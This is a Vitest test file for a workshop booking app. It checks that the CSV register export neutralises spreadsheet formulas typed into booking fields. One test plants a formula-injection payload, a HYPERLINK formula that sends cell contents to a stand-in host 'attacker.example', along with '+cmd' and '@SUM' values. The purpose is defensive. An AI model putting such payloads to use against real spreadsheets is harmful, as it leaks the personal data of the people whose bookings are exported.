import { describe, expect, it } from 'vitest';
import type { ReportGroup } from '../api';
import { reportCsv } from './workshops-report-page';

const event: ReportGroup['event'] = {
  id: 'event-1',
  description: 'Summer coding camp',
  dateTime: '2027-01-25T10:00',
  durationMinutes: 120,
  price: 40,
  capacity: 10,
  location: 'Hall',
  cancelled: false,
  count: 1,
  placesTaken: 1,
  placesLeft: 9,
  unInvoiced: 1,
  unpaid: 1,
  waitlisted: 0,
  placesHeld: 0,
  waitlistRequests: 0,
  credits: null,
};

/** A public booking: every text in it typed by whoever booked. */
const booking = (
  contact: Partial<ReportGroup['registrations'][number]['contact']>,
  child: Partial<ReportGroup['registrations'][number]['children'][number]>,
): ReportGroup['registrations'][number] => ({
  id: 'registration-1',
  eventId: event.id,
  clientId: null,
  status: 'registered',
  contact: {
    firstName: 'Ann',
    lastName: 'Parent',
    address: ['1 High Street'],
    postcode: 'AB1 2CD',
    email: 'ann@example.com',
    phone: '07700 900000',
    ...contact,
  },
  children: [{ firstName: 'Bea', lastName: 'Child', school: 'Hill School', schoolYear: '5', ...child }],
  comments: '',
  price: 40,
  invoiceId: null,
  invoiceRef: null,
  paid: false,
  moving: null,
});

const lines = (csv: string) => csv.split('\r\n');

describe('the workshop register as CSV (docs/csv.md)', () => {
  it('writes what a booking typed as text, never as a formula a spreadsheet would run', () => {
    const hyperlink = '=HYPERLINK("https://attacker.example/?d="&E2&F2,"Click")';
    const csv = reportCsv([
      {
        event,
        registrations: [
          booking(
            { phone: '=1+2' },
            { firstName: hyperlink, lastName: 'Injected', school: '+cmd', schoolYear: '-1', allergies: '@SUM(1+1)' },
          ),
        ],
      },
    ]);
    expect(lines(csv)[1]).toBe(
      [
        '"Summer coding camp"',
        '"2027-01-25 10:00"',
        `"'=HYPERLINK(""https://attacker.example/?d=""&E2&F2,""Click"") Injected"`,
        '"Ann Parent"',
        '"ann@example.com"',
        `"'=1+2"`,
        `"'+cmd"`,
        `"'-1"`,
        `"'@SUM(1+1)"`,
      ].join(','),
    );
    // No field of the file begins (inside its quotes) with a character a spreadsheet evaluates.
    expect(csv).not.toMatch(/(^|,)"[=+\-@\t\r]/m);
  });

  it('keeps ordinary text as it was typed: a header, one row per child, every field quoted, CRLF rows', () => {
    const csv = reportCsv([{ event, registrations: [booking({ lastName: 'O"Neill' }, {})] }]);
    expect(lines(csv)).toEqual([
      '"Event","Date","Child\'s Name","Parent\'s Name","Email","Phone","School","Year","Allergies"',
      '"Summer coding camp","2027-01-25 10:00","Bea Child","Ann O""Neill","ann@example.com","07700 900000","Hill School","5",""',
      '',
    ]);
  });
});
